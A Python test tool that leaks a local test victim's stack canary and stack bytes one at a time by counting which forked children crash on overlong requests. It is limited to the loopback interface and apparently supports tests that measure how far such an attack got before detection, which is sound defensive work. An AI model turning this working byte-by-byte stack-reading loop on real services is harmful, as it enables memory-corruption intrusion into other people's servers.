#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""prober - finds tests/tools/victim's stack byte by byte, through the crashes of its children.

Speaks to the loopback interface only. Prints one JSON line for each byte it finds and a last one
with totals, so that a test can say how far an attack had got when it was detected.

	prober.py PORT [--bytes N] [--crashes N] [--pause SECONDS]
"""
import argparse
import json
import socket
import struct
import time


class Spent(Exception):
    """As many crashes as were allowed."""


class Prober:
    def __init__(self, options):
        self.options = options
        self.crashes = 0
        self.requests = 0
        self.start = time.monotonic()

    def survives(self, body):
        """Whether the child that gets this request lives to answer it."""
        if self.crashes >= self.options.crashes:
            raise Spent
        self.requests += 1
        with socket.create_connection(("127.0.0.1", self.options.port), timeout=5) as peer:
            try:
                peer.sendall(struct.pack("<H", len(body)) + body)
                answer = peer.recv(3)
            except ConnectionError:
                answer = b""
        if answer != b"ok\n":
            self.crashes += 1
            time.sleep(self.options.pause)
        return answer == b"ok\n"

    def say(self, what, **more):
        print(json.dumps({"what": what, "crashes": self.crashes, "requests": self.requests,
                          "seconds": round(time.monotonic() - self.start, 3), **more}), flush=True)

    def find_room(self):
        """The shortest request that kills its child overwrites the canary's lowest byte."""
        for length in range(64, 256):
            if not self.survives(b"A" * length):
                self.say("overflow", length=length)
                return b"A" * (length - 1)
        raise SystemExit("prober: no request crashes the victim")

    def find_byte(self, known):
        for guess in range(256):
            if self.survives(known + bytes([guess])):
                return guess
        return None

    def run(self):
        known = self.find_room()
        for n in range(self.options.bytes):
            guess = self.find_byte(known)
            if guess is None:
                self.say("stuck", byte=n)
                break
            known += bytes([guess])
            self.say("byte", byte=n, value=guess)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("port", type=int)
    parser.add_argument("--bytes", type=int, default=56, help="how far up the stack")
    parser.add_argument("--crashes", type=int, default=8192, help="give up after so many")
    parser.add_argument("--pause", type=float, default=0, help="seconds to wait after a crash")
    prober = Prober(parser.parse_args())
    try:
        prober.run()
    except Spent:
        pass
    prober.say("end")


main()
